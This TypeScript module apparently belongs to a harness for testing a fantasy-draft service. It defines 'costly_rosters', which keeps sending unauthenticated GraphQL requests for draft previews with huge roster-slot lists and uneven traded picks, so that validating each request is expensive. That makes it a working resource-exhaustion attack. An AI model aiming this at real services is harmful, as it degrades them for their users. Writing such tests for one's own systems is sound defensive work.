import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { openSender } from '../send_query.ts';

const TEAMS = 64;
const ROUNDS = 6;
/** So many teams have each another number of picks. */
const UNLIKE_TEAMS = 20;
const POSITIONS = ['QB', 'RB', 'WR', 'TE', 'K', 'DEF'];
/** More slots than a roster may have, and as many. */
const SLOTS = [300, 40];
/** As often as whoever is refused for it may ask. */
const BETWEEN_MS = 250;
const QUERY = 'mutation ($s: DraftSettingsInput!) { createPreview(bots: 64, settings: $s) { link } }';

/** Asks, without being signed in, for drafts whose rosters it takes long to judge: many slots, and teams of different numbers of picks. */
export const costlyRosters: Attack = {
  name: 'costly_rosters',
  async run(target, { signal, random }) {
    const { send, close } = openSender(target, { signal });
    while (!signal.aborted) {
      const slots = SLOTS[Math.floor(random() * SLOTS.length)] ?? 0;
      await send(QUERY, { s: { ...SETTINGS, rosterSlots: slotsOf(slots) } });
      await sleep(BETWEEN_MS, undefined, { signal }).catch(() => undefined);
    }
    close();
  },
};

function slotsOf(count: number) {
  return Array.from({ length: count }, (_, i) => ({
    ...{ name: `s${i}`, seats: 1 },
    // No two of the small ones take the same.
    positions: POSITIONS.filter((_position, place) => (((i % 63) + 1) >> place) % 2 === 1),
  }));
}

/** The picks of the last slots, dealt out so that the first teams have one, two, three more, and so on. */
function trades() {
  const given = Array.from({ length: ROUNDS }, (_, round) =>
    Array.from({ length: TEAMS - UNLIKE_TEAMS }, (_team, i) => ({ round: round + 1, slot: TEAMS - i })),
  ).flat();
  const owners = Array.from({ length: UNLIKE_TEAMS }, (_, i) => Array<number>(i + 1).fill(i + 1)).flat();
  return owners.flatMap((owner, i) => (given[i] ? [{ ...given[i], owner }] : []));
}

const SETTINGS = { order: { kind: 'SNAKE' }, rounds: ROUNDS, secondsPerPick: 60, tradedPicks: trades() };
